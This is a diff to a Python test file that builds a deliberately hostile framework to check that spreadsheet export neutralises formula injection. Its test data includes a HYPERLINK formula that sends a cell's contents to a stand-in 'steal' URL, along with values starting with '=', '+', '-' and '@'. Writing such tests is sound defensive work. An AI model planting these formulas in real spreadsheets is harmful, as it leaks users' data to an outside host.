@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
+import yaml
 from openpyxl import load_workbook
 from openpyxl.utils import column_index_from_string
 from typer.testing import CliRunner
@@ -99,13 +100,13 @@ HYPERLINK = '=HYPERLINK("http://example.org/steal?d="&A1,"click")'
 
 def hostile_framework() -> Framework:
     """The sample framework with formulas, and a control character, where a framework has text."""
-    data = load_framework(FRAMEWORK).model_dump()  # texts in English (the sample also gives fr, es)
+    data = yaml.safe_load(FRAMEWORK.read_text(encoding="utf-8"))
     outcome = data["outcomes"][0]
     outcome["id"] = "@SUM(1+1)"
-    outcome["title"] = "+" + outcome["title"]
+    outcome["title"] = "+" + outcome["title"]["en"]  # the sample gives its texts in en, fr and es
     indicator = outcome["indicators"][0]
     indicator["id"] = "-7.1"
-    indicator["title"] = "=" + indicator["title"]
+    indicator["title"] = "=" + indicator["title"]["en"]
     indicator["reportability"] = "\tAt least two criteria\x07"
     indicator["criteria"][0]["text"] = HYPERLINK
     return Framework.model_validate(data)
